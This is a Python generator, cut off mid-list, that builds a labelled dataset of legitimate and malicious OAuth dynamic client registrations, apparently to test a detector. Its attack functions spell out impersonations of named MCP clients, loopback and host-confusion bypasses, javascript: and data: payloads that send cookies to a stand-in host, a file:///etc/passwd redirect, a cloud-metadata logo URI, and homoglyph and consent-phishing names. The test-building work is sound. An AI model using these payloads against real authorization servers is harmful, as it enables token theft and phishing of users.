# LEGITIMATE: operator in-house apps, self-hosted deployments, machine clients
# ======================================================================================


def operator_web_apps():
    src = "operator in-house confidential web app (RFC 6749 §2.1 confidential client, RFC 7591 §2)"
    apps = [
        ("Northwind Expense Portal", "expenses.northwind.example", "https://www.northwind.example",
         "https://static.northwind.example/img/expense.png", "client_secret_basic"),
        ("Contoso HR Self-Service", "hr.contoso.example", "https://www.contoso.example/hr",
         "https://cdn.contoso.example/brand/hr-64.png", "client_secret_post"),
        ("Fabrikam Partner Portal", "partners.fabrikam.example", "https://fabrikam.example",
         None, "client_secret_basic"),
        ("Litware Data Catalog", "catalog.litware.example", "https://litware.example/products/catalog",
         "https://litware.example/favicon-192.png", "client_secret_basic"),
        ("Tailspin Ops Dashboard", "ops.tailspin-toys.example", "https://tailspin-toys.example",
         "https://assets.tailspin-toys.example/ops.svg", "client_secret_post"),
        ("Woodgrove Risk Console", "risk.woodgrove.example", "https://www.woodgrovebank.example",
         "https://www.woodgrovebank.example/logo.png", "client_secret_basic"),
        ("Adventure Works Support Desk", "support.adventure-works.example",
         "https://adventure-works.example/support", None, "client_secret_basic"),
        ("Proseware Knowledge Base", "kb.proseware.example", "https://proseware.example",
         "https://kb.proseware.example/static/logo.png", "client_secret_post"),
    ]
    fam_i = 0
    for name, host, home, logo, auth in apps:
        fam_i += 1
        for k in range(rng.randint(2, 4)):  # prod/staging/dev registrations
            env = ["", "staging.", "dev.", "qa."][k]
            m = {"client_name": name if not env else f"{name} ({env[:-1]})",
                 "redirect_uris": [f"https://{env}{host}/oauth2/callback"],
                 "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                 "token_endpoint_auth_method": auth, "client_uri": home,
                 "scope": pick(["openid profile email", "openid profile email offline_access", "mcp"])}
            if k == 0 and rng.random() < 0.5:
                m["redirect_uris"].append(f"https://{host}/oauth2/silent-callback")
            if logo:
                m["logo_uri"] = logo
            if rng.random() < 0.4:
                m["policy_uri"] = f"{home.rstrip('/')}/privacy"
                m["tos_uri"] = f"{home.rstrip('/')}/terms"
            if rng.random() < 0.5:
                m["contacts"] = [f"platform-team@{home.split('//')[1].split('/')[0].replace('www.', '')}"]
            legit(f"op-web-{fam_i}", src, m, lifecycle(p_used=0.85, p_never=0.1))


def operator_marketing_sites():
    # apps whose redirect domain differs from the home page (vendor marketing site / CDN)
    src = "operator app with redirect host differing from client_uri (RFC 7591 §5 notes this is common)"
    rows = [
        ("Fabrikam Insights", ["https://app.fabrikam-insights.example/auth/callback"],
         "https://www.fabrikam.example", "https://www.fabrikam.example/assets/insights.png"),
        ("Contoso Field Service", ["https://fieldservice.contoso-cloud.example/signin-oidc"],
         "https://www.contoso.example", None),
        ("Wingtip Loyalty Admin", ["https://admin.wingtiployalty.example/oauth/callback"],
         "https://wingtip.example", "https://wingtip.example/img/logo.svg"),
        ("Northwind Analytics", ["https://northwind.eu.analytics-host.example/callback",
                                 "https://northwind.us.analytics-host.example/callback"],
         "https://www.northwind.example/analytics", None),
    ]
    for i, (name, redirects, home, logo) in enumerate(rows):
        for _ in range(rng.randint(2, 3)):
            m = {"client_name": name, "redirect_uris": list(redirects),
                 "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                 "token_endpoint_auth_method": pick(["client_secret_basic", "client_secret_post"]),
                 "client_uri": home}
            if logo:
                m["logo_uri"] = logo
            legit(f"op-crossdomain-{i + 1}", src, m, lifecycle(p_used=0.8, p_never=0.15))


def operator_native_apps():
    # RFC 8252 §7.1 private-use URI schemes in reverse-DNS form; application_type native (OIDC DCR)
    src = "operator native/mobile app (RFC 8252 §7.1 reverse-DNS private-use scheme)"
    rows = [
        ("Contoso Field App", "com.contoso.fieldapp:/oauth2redirect", "https://www.contoso.example"),
        ("Northwind Scanner", "com.northwind.scanner:/callback", "https://www.northwind.example"),
        ("Fabrikam Mobile", "com.fabrikam.mobile://auth/callback", None),
        ("Woodgrove Banking", "com.woodgrovebank.app:/oauth/redirect", "https://www.woodgrovebank.example"),
        ("Litware Notes for iOS", "io.litware.notes:/oauth", "https://litware.example/notes"),
        ("Tailspin Crew", "net.tailspintoys.crew:/cb", None),
    ]
    for i, (name, r, home) in enumerate(rows):
        for _ in range(rng.randint(2, 4)):
            m = {"client_name": name, "redirect_uris": [r],
                 "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                 "token_endpoint_auth_method": "none", "application_type": "native"}
            if home:
                m["client_uri"] = home
            if rng.random() < 0.3:
                m["redirect_uris"].append(f"http://127.0.0.1:{pick([8400, 53682])}/callback")
            legit(f"op-native-{i + 1}", src, m)


def operator_spas():
    src = "operator single-page app (public client, PKCE; RFC 9700 §2.1.1)"
    rows = [
        ("Contoso Planner", "https://planner.contoso.example/callback", "https://planner.contoso.example"),
        ("Northwind Storefront Admin", "https://admin.northwind.example/auth/callback", None),
        ("Proseware Docs Assistant", "https://docs.proseware.example/oauth/callback",
         "https://proseware.example/docs"),
        ("Wingtip Kiosk", "https://kiosk.wingtip.example/", None),
    ]
    for i, (name, r, home) in enumerate(rows):
        for _ in range(rng.randint(3, 4)):
            m = {"client_name": name, "redirect_uris": [r],
                 "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                 "token_endpoint_auth_method": "none", "application_type": "web"}
            if home:
                m["client_uri"] = home
            legit(f"op-spa-{i + 1}", src, m)


def operator_dev_tools():
    src = "developer tool on loopback (RFC 8252 §7.3 loopback redirect, any port)"
    rows = [
        ("acme-cli", "http://127.0.0.1:{p}/callback"),
        ("Internal MCP Test Harness", "http://localhost:{p}/oauth/callback"),
        ("dbt-mcp-dev", "http://127.0.0.1:{p}/"),
        ("kb-sync (dev)", "http://[::1]:{p}/cb"),
    ]
    for i, (name, tmpl) in enumerate(rows):
        for _ in range(rng.randint(3, 5)):
            m = {"client_name": name, "redirect_uris": [tmpl.format(p=eph_port())],
                 "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                 "token_endpoint_auth_method": "none"}
            if rng.random() < 0.3:
                m["scope"] = ""
            legit(f"op-devtool-{i + 1}", src, m, lifecycle(p_used=0.4, p_never=0.55))


def operator_i18n_and_odd():
    # Odd but legitimate: other scripts, long names, empty scope, contacts, application_type web.
    src = "operator in-house app with unusual but legitimate metadata (RFC 7591 §2.2 language tags, §2)"
    rows = [
        ("経費精算ポータル", "https://keihi.example.co.jp/oauth/callback", "https://example.co.jp", "client_secret_basic"),
        ("Система учёта заявок", "https://helpdesk.example.ru/oauth/callback", "https://example.ru", "client_secret_post"),
        ("نظام الموارد البشرية", "https://hr.example.sa/auth/callback", None, "client_secret_basic"),
        ("Gestión de Nóminas", "https://nominas.example.es/callback", "https://example.es", "client_secret_basic"),
        ("Zoë's Café Rota", "https://rota.zoes-cafe.example/oauth/cb", "https://zoes-cafe.example", "none"),
        ("客服工单系统", "https://kefu.example.cn/oauth2/callback", None, "client_secret_post"),
        ("Αρχείο Εγγράφων", "https://docs.example.gr/callback", "https://example.gr", "client_secret_basic"),
        ("사내 위키 검색", "https://wiki.example.kr/oauth/callback", None, "none"),
        ("Northwind Traders Quarterly Financial Close and Consolidation Reporting Assistant (EMEA)",
         "https://close.northwind.example/oauth/callback", "https://www.northwind.example", "client_secret_basic"),
        ("MCP bridge for SAP S/4HANA — Finance", "https://sap-bridge.contoso.example/cb",
         "https://www.contoso.example", "client_secret_post"),
    ]
    for i, (name, r, home, auth) in enumerate(rows):
        for _ in range(rng.randint(2, 3)):
            m = {"client_name": name, "redirect_uris": [r],
                 "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                 "token_endpoint_auth_method": auth, "scope": pick(["", "openid", "openid profile"])}
            if home:
                m["client_uri"] = home
            if rng.random() < 0.5:
                host = r.split("/")[2]
                m["contacts"] = [f"admin@{host.split('.', 1)[1]}"]
            if rng.random() < 0.3:
                m["application_type"] = "web"
            legit(f"op-i18n-{i + 1}", src, m, lifecycle(p_used=0.8, p_never=0.15))


def selfhosted_librechat_like():
    # Self-hosted vendor apps whose client_uri names the vendor's own site while redirects are on
    # the operator's domain (normal: RFC 7591 §5 metadata is self-asserted). Open WebUI/Dify/n8n
    # are above; here operators that register their deployment by hand through DCR.
    src = "self-hosted deployment registered by the operator (vendor client_uri, operator redirect)"
    rows = [
        ("Flowise (Contoso)", "https://flowise.contoso.example/api/v1/oauth2-credential/callback", "https://flowiseai.com"),
        ("AnythingLLM - Northwind", "https://anythingllm.northwind.example/api/oauth/callback", "https://anythingllm.com"),
        ("Chainlit Support Bot", "https://support-bot.fabrikam.example/mcp/oauth/callback", "https://chainlit.io"),
        ("Mattermost AI", "https://chat.litware.example/plugins/mattermost-ai/oauth/complete", "https://mattermost.com"),
    ]
    for i, (name, r, home) in enumerate(rows):
        for _ in range(rng.randint(2, 3)):
            m = {"client_name": name, "redirect_uris": [r],
                 "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
                 "token_endpoint_auth_method": pick(["client_secret_basic", "client_secret_post", "none"]),
                 "client_uri": home}
            legit(f"op-selfhosted-{i + 1}", src, m, lifecycle(p_used=0.8, p_never=0.15))


def machine_clients():
    # RFC 6749 §4.4 client credentials; RFC 7523 §2.2 private_key_jwt with jwks_uri on the
    # vendor's own domain; no redirect URIs (RFC 7591 §2: redirect_uris only for redirect flows).
    src = "machine client (RFC 6749 §4.4 client_credentials; RFC 7523 private_key_jwt)"
    rows = [
        ("Nightly ETL Sync", "client_secret_basic", None, "etl:write"),
        ("Prometheus MCP Exporter", "client_secret_basic", None, "metrics:read"),
        ("Billing Reconciler", "private_key_jwt", "https://billing.northwind.example/.well-known/jwks.json", "billing"),
        ("Contoso Search Indexer", "private_key_jwt", "https://keys.contoso.example/indexer/jwks.json", "search:index"),
        ("Fabrikam CI Agent", "client_secret_post", None, ""),
        ("Litware SIEM Forwarder", "private_key_jwt", "https://siem.litware.example/jwks", "audit:read"),
        ("backup-verifier", "client_secret_basic", None, None),
        ("Woodgrove Fraud Scoring Service", "private_key_jwt",
         "https://www.woodgrovebank.example/oauth/fraud-scoring/jwks.json", "fraud:score"),
        ("Tailspin Inventory Bot", "client_secret_basic", None, "inventory:read inventory:write"),
        ("GitHub Actions deploy (prod)", "private_key_jwt",
         "https://deploy.adventure-works.example/.well-known/jwks.json", "deploy"),
    ]
    for i, (name, auth, jwks, scope) in enumerate(rows):
        for k in range(rng.randint(3, 6)):
            m = {"client_name": name, "grant_types": ["client_credentials"],
                 "token_endpoint_auth_method": auth}
            if rng.random() < 0.5:
                m["response_types"] = []
            if jwks:
                m["jwks_uri"] = jwks
            if scope is not None:
                m["scope"] = scope
            if rng.random() < 0.3:
                m["contacts"] = ["sre@" + pick(["northwind.example", "contoso.example", "fabrikam.example"])]
            legit(f"machine-{i + 1}", src, m, lifecycle(p_used=0.9, p_never=0.05))


# ======================================================================================
# ATTACKS (each derived from a standard; class in "class", citation in "source")
# ======================================================================================

KNOWN = {
    # name -> (real redirects, auth) from REFERENCE.md and the catalog candidates above
    "Claude Code": (["http://localhost:{p}/callback"], "none"),
    "claudeai": (["https://claude.ai/api/mcp/auth_callback"], "client_secret_post"),
    "Visual Studio Code": (["https://insiders.vscode.dev/redirect", "https://vscode.dev/redirect",
                            "http://127.0.0.1/", "http://127.0.0.1:33418/"], "none"),
    "Cursor": (["cursor://anysphere.cursor-mcp/oauth/callback"], "none"),
    "MCP Inspector": (["http://localhost:6274/oauth/callback"], "none"),
    "MCP CLI Proxy": (["http://localhost:{p}/oauth/callback"], "none"),
    "Cline": (["http://127.0.0.1:1456/mcp/oauth/callback"], "none"),
    "Gemini CLI MCP Client": (["http://localhost:7777/oauth/callback"], "none"),
    "goose": (["http://127.0.0.1:{p}/oauth_callback"], "none"),
    "ChatGPT": (["https://chatgpt.com/connector_platform_oauth_redirect"], "client_secret_post"),
    "LibreChat MCP Client": (["https://chat.example.com/api/mcp/linear/oauth/callback"], "client_secret_basic"),
    "Zed": (["http://127.0.0.1:{p}/callback"], "none"),
    "Codex": (["http://127.0.0.1:{p}/callback"], "none"),
    "OpenCode": (["http://127.0.0.1:19876/mcp/oauth/callback"], "none"),
    "Kilo Code": (["http://127.0.0.1:48801/mcp-auth/callback"], "none"),
    "Roo Code": (["http://localhost:{p}/callback"], "none"),
    "Continue Dev, Inc": (["http://localhost:3000"], "none"),
    "Crush MCP Client": (["http://localhost:{p}/callback"], "none"),
    "Qwen Code MCP Client": (["http://localhost:7777/oauth/callback"], "none"),
    "Open WebUI": (["https://chat.northwind.example/oauth/clients/mcp:linear/callback"], "client_secret_post"),
    "Dify": (["https://dify.northwind.example/console/api/mcp/oauth/callback"], "none"),
    "n8n": (["https://n8n.northwind.example/rest/oauth2-credential/callback"], "none"),
    "Cherry Studio": (["http://127.0.0.1:12346/oauth/callback"], "none"),
    "Q DEV CLI": (["http://127.0.0.1:{p}"], "none"),
    "Witsy MCP Client": (["http://localhost:8090/callback"], "client_secret_post"),
    "FastMCP Client": (["http://localhost:{p}/callback"], "client_secret_post"),
    "MetaMCP": (["https://metamcp.northwind.example/oauth/callback"], "none"),
    "mcp-use": (["http://localhost:8080/callback"], "none"),
}

EVIL_HOSTS = [
    "mcp-oauth-relay.com", "claude-code-auth.app", "vscode-dev.net", "cursor-callback.io",
    "connect-mcp.dev", "oauth-bridge.cloud", "chatgpt-connectors.com", "mcpauth.link",
    "auth-callback.site", "zed-dev.app", "opencode-ai.dev", "codex-cli.app", "n8n-cloud.app",
    "localhost-callback.net", "librechat-mcp.com", "gooseai.app", "cline-bot.dev",
]


def real_redirects(name):
    rs, auth = KNOWN[name]
    return [r.format(p=eph_port()) for r in rs], auth


def base_meta(name, redirects, auth):
    return {"client_name": name, "redirect_uris": redirects,
            "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"],
            "token_endpoint_auth_method": auth}


def atk_impersonation():
    src = "RFC 7591 §5 (self-asserted client_name) + RFC 9700 §4.1 (attacker redirect_uri)"
    names = list(KNOWN.keys())
    for i, name in enumerate(names):
        for v in range(2 if i < 16 else 1):
            evil = pick(EVIL_HOSTS)
            reals, auth = real_redirects(name)
            mode = (i + v) % 4
            if mode == 0:  # plain swap to an https attacker host
                redirects = [f"https://{evil}/callback"]
            elif mode == 1:  # real redirects kept, one attacker redirect appended
                redirects = reals + [f"https://{evil}/oauth/callback"]
            elif mode == 2:  # attacker host that embeds the brand
                slug = name.lower().replace(" ", "-").replace(",", "").replace(".", "")
                redirects = [f"https://{slug}.{evil}/api/mcp/auth_callback"]
            else:  # plain-http non-loopback host (RFC 9700 §2.1: http only for loopback)
                redirects = [f"http://{evil}:8080/callback"]
            cname = name
            if name in ("Claude Code", "Codex", "Zed") and v == 1:
                cname = f"{name} ({pick(['linear', 'github', 'notion'])})"
            m = base_meta(cname, redirects, auth)
            if name == "MCP CLI Proxy":
                m["software_id"] = "2e6dc280-f3c3-4e01-99a7-8181dbd1d23d"
                m["software_version"] = "0.1.29"
            if name == "Visual Studio Code":
                m["client_uri"] = "https://code.visualstudio.com"
                m["application_type"] = "native"
            if name == "Kilo Code":
                m["software_id"] = "kilocode"
                m["client_uri"] = "https://kilo.ai"
            attack("impersonation", src, m)


def atk_noncanonical_host():
    src = ("RFC 3986 §3.2.2/§7.4 + WHATWG URL host parsing (IPv4 number forms, IPv6-mapped, "
           "percent-encoding), RFC 8252 §8.3, RFC 9700 §4.1.3; userinfo/backslash per RFC 3986 §3.2.1")
    p = 41235
    variants = [
        ("Claude Code", f"http://localhost.:{p}/callback"),
        ("Claude Code", f"http://2130706433:{p}/callback"),
        ("goose", f"http://0x7f000001:{p}/oauth_callback"),
        ("Zed", f"http://0177.0.0.1:{p}/callback"),
        ("Zed", f"http://0x7f.0.0.1:{p}/callback"),
        ("Codex", f"http://127.1:{p}/callback"),
        ("Cline", f"http://[::ffff:127.0.0.1]:{p}/mcp/oauth/callback"),
        ("MCP CLI Proxy", f"http://[::ffff:7f00:1]:{p}/oauth/callback"),
        ("Gemini CLI MCP Client", "http://0.0.0.0:7777/oauth/callback"),
        ("Crush MCP Client", f"http://[::]:{p}/callback"),
        ("MCP Inspector", "http://%6c%6f%63%61%6c%68%6f%73%74:6274/oauth/callback"),
        ("Claude Code", f"http://127.0.0.1%2eevil-cb.example:{p}/callback"),
        ("claudeai", "https://evil-cb.example\\@claude.ai/api/mcp/auth_callback"),
        ("claudeai", "https://claude.ai@evil-cb.example/api/mcp/auth_callback"),
        ("claudeai", "https://claude.ai:443@evil-cb.example/api/mcp/auth_callback"),
        ("Zed", f"http://127.0.0.1:{p}@evil-cb.example/callback"),
        ("ChatGPT", "https://evil-cb.example#@chatgpt.com/connector_platform_oauth_redirect"),
        ("ChatGPT", "https://evil-cb.example?@chatgpt.com/connector_platform_oauth_redirect"),
        ("claudeai", "https://claude.ai%2f@evil-cb.example/api/mcp/auth_callback"),
        ("Visual Studio Code", "https://vscode.dev\\.evil-cb.example/redirect"),
        ("Visual Studio Code", "https://evil-cb.example%5c@vscode.dev/redirect"),
        ("Claude Code", f"http://127.0.0.1.:{p}/callback"),
        ("OpenCode", "http://0:19876/mcp/oauth/callback"),
        ("Q DEV CLI", f"http://127.000.000.001:{p}"),
        ("Codex", f"http://\uff11\uff12\uff17.\uff10.\uff10.\uff11:{p}/callback"),
        ("Cherry Studio", "http://017700000001:12346/oauth/callback"),
        ("Cursor", "http://localhost%00.evil-cb.example:8787/callback"),
        ("MCP Inspector", "http://LOCALHOST.:6274/oauth/callback"),
        ("goose", f"http://[0:0:0:0:0:ffff:127.0.0.1]:{p}/oauth_callback"),
        ("Witsy MCP Client", "http://127.0.0.1%09.evil-cb.example:8090/callback"),
    ]
    for name, r in variants:
        auth = KNOWN.get(name, ([], "none"))[1]
        attack("noncanonical-host", src, base_meta(name, [r], auth))


def atk_loopback_lookalike():
    src = "RFC 8252 §7.3/§8.3 (loopback means the IP literal; DNS names that resolve to or mimic loopback are not)"
    variants = [
        ("Claude Code", "http://localhost.evil-cb.example:41235/callback"),
        ("Zed", "http://127.0.0.1.nip.io:52011/callback"),
        ("goose", "http://127.0.0.1.sslip.io:50123/oauth_callback"),
        ("MCP Inspector", "http://localtest.me:6274/oauth/callback"),
        ("Continue Dev, Inc", "http://lvh.me:3000"),
        ("MCP CLI Proxy", "http://localhost.oauth-bridge.cloud:3334/oauth/callback"),
        ("Codex", "http://127-0-0-1.evil-cb.example:50770/callback"),
        ("Gemini CLI MCP Client", "https://localhost-callback.evil-cb.example/oauth/callback"),
        ("goose", "http://loopback.evil-cb.example/oauth_callback"),
        ("MCPJam - linear", "http://127.0.0.1.evil-cb.example:6274/oauth/callback"),
        ("Crush MCP Client", "http://vcap.me:8085/callback"),
        ("Cline", "http://localhost6.evil-cb.example:1456/mcp/oauth/callback"),
        ("acme-cli", "http://127.0.0.1.xip.io:8400/callback"),
    ]
    for name, r in variants:
        attack("loopback-lookalike", src, base_meta(name, [r], "none"))


def atk_dangerous_scheme():
    src = "RFC 9700 §4.1/§2.1 + RFC 6749 §3.1.2 (redirect must not be script/data/file); RFC 3986 §3.1"
    variants = [
        ("Visual Studio Code", "javascript:alert(document.cookie)//"),
        ("claudeai", "javascript://claude.ai/%0aalert(document.domain)"),
        ("Notes Sync", "JaVaScRiPt:fetch('//evil-cb.example/'+document.cookie)"),
        ("Cursor", "data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj0naHR0cHM6Ly9ldmlsLWNiLmV4YW1wbGUvPycrbG9jYXRpb24uaGFzaDwvc2NyaXB0Pg=="),
        ("MCP Inspector", "data:text/html,<script>location='https://evil-cb.example/?'+location.search</script>"),
        ("Internal Tools", "file:///etc/passwd"),
        ("Zed", "file://attacker-smb.example/share/payload.html"),
        ("Office Helper", "vbscript:msgbox(document.cookie)"),
        ("ChatGPT", "blob:https://chatgpt.com/4f1c3d2a-8c1e-4b9e-9a55-1d2f0c9e7b11"),
        ("Cline", " javascript:alert(1)"),
        ("goose", "java\tscript:alert(1)"),
        ("Dify", "javascript:/*https://dify.northwind.example/console/api/mcp/oauth/callback*/alert(1)"),
    ]
    for name, r in variants:
        m = base_meta(name, [r], "none")
        if rng.random() < 0.4:
            m["redirect_uris"] = [f"http://127.0.0.1:{eph_port()}/callback", r]
        attack("dangerous-scheme", src, m)


def atk_open_redirect_chain():
    src = "RFC 9700 §4.11 (open redirector at the client) + §4.1.1 (redirect URI matching)"
    variants = [
        ("Visual Studio Code", ["https://vscode.dev/redirect?url=https%3A%2F%2Fevil-cb.example%2Fcollect"], "none"),
        ("Visual Studio Code", ["https://insiders.vscode.dev/redirect?dest=https://evil-cb.example/c"], "none"),
        ("claudeai", ["https://claude.ai/api/mcp/auth_callback?next=https://evil-cb.example/steal"], "client_secret_post"),
        ("claudeai", ["https://claude.ai/api/mcp/auth_callback/../../../logout?returnTo=https%3A%2F%2Fevil-cb.example"], "client_secret_post"),
        ("ChatGPT", ["https://chatgpt.com/connector_platform_oauth_redirect?redirect_uri=https://evil-cb.example/x"], "client_secret_post"),
        ("Cursor", ["https://www.cursor.com/agents/mcp/oauth/callback?return_to=//evil-cb.example"], "none"),
        ("MCP Inspector", ["http://localhost:6274/oauth/callback?redirect=https://evil-cb.example"], "none"),
        ("n8n", ["https://n8n.northwind.example/rest/oauth2-credential/callback?continue=https://evil-cb.example"], "none"),
        ("LibreChat MCP Client", ["https://chat.example.com/api/mcp/linear/oauth/callback/../../../../../r?u=https://evil-cb.example"], "client_secret_basic"),
        ("Open WebUI", ["https://chat.northwind.example/oauth/clients/mcp:linear/callback?redirect=https%3A%2F%2Fevil-cb.example"], "client_secret_post"),
        ("Dify", ["https://dify.northwind.example/console/api/mcp/oauth/callback?url=https://evil-cb.example"], "none"),
        ("Cline", ["vscode://saoudrizwan.claude-dev/mcp-auth?redirect=https://evil-cb.example"], "none"),
    ]
    for name, rs, auth in variants:
        attack("open-redirect-chain", src, base_meta(name, rs, auth))


def atk_display_spoof():
    src = "RFC 7591 §5 (logo_uri/client_uri/policy_uri/tos_uri should share the redirect host; displayed on consent)"
    rows = [
        ("Visual Studio Code", ["https://vscode.dev/redirect"], {"client_uri": "https://code-visualstudio.dev",
                                                                 "logo_uri": "https://cdn.code-visualstudio.dev/vscode.png"}),
        ("Claude Code", [f"http://localhost:{eph_port()}/callback"], {"client_uri": "https://claude-code.app",
                                                                     "logo_uri": "https://claude-code.app/logo.svg"}),
        ("claudeai", ["https://claude.ai/api/mcp/auth_callback"], {"policy_uri": "https://anthropic-legal.com/privacy",
                                                                   "tos_uri": "https://anthropic-legal.com/terms"}),
        ("Cursor", ["cursor://anysphere.cursor-mcp/oauth/callback"], {"logo_uri": "https://imgur.example/cursor.png",
                                                                      "client_uri": "https://cursor-ai.app"}),
        ("MCP Inspector", ["http://localhost:6274/oauth/callback"], {"client_uri": "https://github.com/modelcontextprotocoI/inspector"}),
        ("ChatGPT", ["https://chatgpt.com/connector_platform_oauth_redirect"], {"logo_uri": "https://openai-cdn.net/chatgpt.png",
                                                                                "client_uri": "https://openai-cdn.net"}),
        ("Zed", [f"http://127.0.0.1:{eph_port()}/callback"], {"client_uri": "https://zed-editor.app", "logo_uri": "https://zed-editor.app/z.png"}),
        ("Continue Dev, Inc", ["http://localhost:3000"], {"client_uri": "https://continue-dev.app"}),
        ("Kilo Code", ["http://127.0.0.1:48801/mcp-auth/callback/" + "a" * 64],
         {"client_uri": "https://kilo-code.app", "software_id": "kilocode"}),
        ("Cherry Studio", ["http://127.0.0.1:12346/oauth/callback"], {"client_uri": "https://github.com/CherryHQ-official/cherry-studio",
                                                                      "logo_uri": "https://cherryhq.app/logo.png"}),
        ("n8n", ["https://n8n.northwind.example/rest/oauth2-credential/callback"], {"client_uri": "https://n8n-io.app/",
                                                                                    "policy_uri": "https://n8n-io.app/privacy"}),
        ("Dify", ["https://dify.northwind.example/console/api/mcp/oauth/callback"], {"client_uri": "https://github.com/langgenius-ai/dify"}),
        ("goose", [f"http://127.0.0.1:{eph_port()}/oauth_callback"], {"logo_uri": "http://169.254.169.254/latest/meta-data/"}),
        ("Codex", [f"http://127.0.0.1:{eph_port()}/callback"], {"client_uri": "https://openai-codex.app", "tos_uri": "https://openai-codex.app/tos"}),
        ("Open WebUI", ["https://chat.northwind.example/oauth/clients/mcp:linear/callback"],
         {"client_uri": "https://openwebui.app", "logo_uri": "https://openwebui.app/logo.png"}),
    ]
    for name, rs, extra in rows:
        auth = KNOWN.get(name, ([], "none"))[1]
        m = base_meta(name, rs, auth)
        m.update(extra)
        attack("display-metadata-spoof", src, m)


def atk_confusable_names():
    src = "Unicode TR39 §4 (mixed-script/whole-script confusables) + RFC 7591 §5 (client_name shown to user)"
    names = [
        ("G\u0456tHub", "https://github-app-auth.com/callback"),          # Cyrillic і
        ("Git\u041dub Copilot", "https://copilot-oauth.dev/cb"),           # Cyrillic Н
        ("Cl\u0430ude Code", "https://claude-code-auth.app/callback"),    # Cyrillic а
        ("Claude \u0421ode", f"http://localhost:{eph_port()}/callback"),   # Cyrillic С (loopback, name only)
        ("Curs\u043er", "https://cursor-callback.io/oauth"),               # Cyrillic о
        ("\u0421ursor", "cursor://anysphere.cursor-mcp/oauth/callback"),   # Cyrillic С, real redirect
        ("Sl\u0430ck", "https://slack-connect.app/oauth/callback"),
        ("N\u03bftion", "https://notion-mcp.app/callback"),                # Greek ο
        ("\u039dotion MCP", "https://notion-mcp.app/callback"),            # Greek Ν
        ("Google Dr\u0456ve", "https://drive-google.app/auth"),
        ("Goog1e Drive", "https://drive-google.app/auth"),                 # digit 1 for l
        ("Visual Studio C\u043ede", "https://vscode-dev.net/redirect"),
        ("Z\u0435d", f"http://127.0.0.1:{eph_port()}/callback"),           # Cyrillic е, loopback
        ("Ch\u0430tGPT", "https://chatgpt-connectors.com/connector_platform_oauth_redirect"),
        ("Open\u0391I Codex", "https://codex-cli.app/callback"),           # Greek Α
        ("\uff27\uff49\uff54\uff28\uff55\uff42", "https://github-app-auth.com/callback"),  # fullwidth GitHub
        ("Gemini CLI \u041c\u0421\u0420 Client", "http://localhost:7777/oauth/callback"),  # Cyrillic МСР
        ("Lin\u0435ar", "https://linear-mcp.app/oauth/callback"),
        ("Str\u0456pe Dashboard", "https://stripe-dash.app/cb"),
        ("Microsoft 365 C\u043epilot", "https://m365-copilot.app/cb"),
        ("g\u043e\u043ese", f"http://127.0.0.1:{eph_port()}/oauth_callback"),
        ("Cl\u0456ne", "http://127.0.0.1:1456/mcp/oauth/callback"),
    ]
    for name, r in names:
        attack("confusable-name", src, base_meta(name, [r], "none"))


def atk_invisible_chars():
    src = "Unicode TR36 §2 / TR39 §3 (default-ignorable and bidi format characters) + RFC 7591 §5"
    names = [
        ("Claude\u200b Code", f"http://localhost:{eph_port()}/callback"),
        ("Cur\u2060sor", "https://cursor-callback.io/oauth"),
        ("Visual Studio Code\u202e", "https://vscode-dev.net/redirect"),
        ("\u202eedoC oidutS lausiV", "https://vscode-dev.net/redirect"),
        ("Zed\ufeff", "https://zed-dev.app/callback"),
        ("Open\u00adWebUI", "https://openwebui.app/oauth/clients/mcp:x/callback"),
        ("goose\u200d", "https://gooseai.app/oauth_callback"),
        ("MCP CLI\u200c Proxy", "https://mcpauth.link/oauth/callback"),
        ("Codex\u180e", f"http://127.0.0.1:{eph_port()}/callback"),
        ("Roo\u2063 Code", "https://mcp-oauth-relay.com/callback"),
        ("Cline\u034f", "http://127.0.0.1:1456/mcp/oauth/callback"),
        ("Git\u2066Hub\u2069", "https://github-app-auth.com/callback"),
    ]
    for name, r in names:
        attack("invisible-chars", src, base_meta(name, [r], "none"))


def atk_authority_claim():
    src = "RFC 7591 §5 (client_name is self-asserted; consent-screen deception) + RFC 6819 (phishing the end-user at consent)"
    names = [
        "Official Claude Connector", "Verified GitHub App", "Admin Console - Approval Required",
        "Security Update Required", "Click Allow to continue", "IT Department: re-authorize your account",
        "Anthropic Official MCP (verified)", "Microsoft 365 Security Verification",
        "Your session expired - click Allow", "Google Workspace Admin (Verified)",
        "\u26a0 Action required: confirm access", "System Administrator", "Okta Verify - Trusted Device",
    ]
    for i, name in enumerate(names):
        host = pick(EVIL_HOSTS)
        r = f"https://{host}/oauth/callback" if i % 3 else f"http://localhost:{eph_port()}/callback"
        m = base_meta(name, [r], pick(["none", "client_secret_post"]))
        if i % 4 == 0:
            m["logo_uri"] = f"https://{host}/shield-check.png"
        attack("authority-claim", src, m)


def atk_public_privileged_grant():
    src = ("RFC 6749 §2.1/§4.4 (client_credentials only for confidential clients), RFC 9700 §2.4 "
           "(password grant MUST NOT be used), OAuth 2.1 §2.1")
    rows = [
        ("Claude Code", ["client_credentials"]),
        ("Cursor", ["authorization_code", "client_credentials"]),
        ("Data Export Helper", ["client_credentials", "refresh_token"]),
        ("MCP Inspector", ["password"]),
        ("Visual Studio Code", ["authorization_code", "password", "refresh_token"]),
        ("Backup Agent", ["password", "client_credentials"]),
        ("goose", ["authorization_code", "refresh_token", "client_credentials"]),
        ("Zed", ["password"]),
        ("reporting-bot", ["client_credentials"]),
        ("Gemini CLI MCP Client", ["authorization_code", "refresh_token", "password"]),
    ]
    for name, gts in rows:
        rs = [f"http://127.0.0.1:{eph_port()}/callback"] if rng.random() < 0.6 else []
        m = {"client_name": name, "redirect_uris": rs, "grant_types": gts,
             "response_types": ["code"] if "authorization_code" in gts else [],
             "token_endpoint_auth_method": "none"}
        if not rs:
            del m["redirect_uris"]
        attack("public-client-privileged-grant", src, m)


def atk_implicit():
    src = "RFC 9700 §2.1.2 (implicit grant SHOULD NOT / OAuth 2.1 removes response_type token); OIDC Core §3.2"
    rows = [
        ("Visual Studio Code", ["implicit"], ["token"], "https://vscode-dev.net/redirect"),
        ("claudeai", ["implicit"], ["token"], "https://claude.ai/api/mcp/auth_callback"),
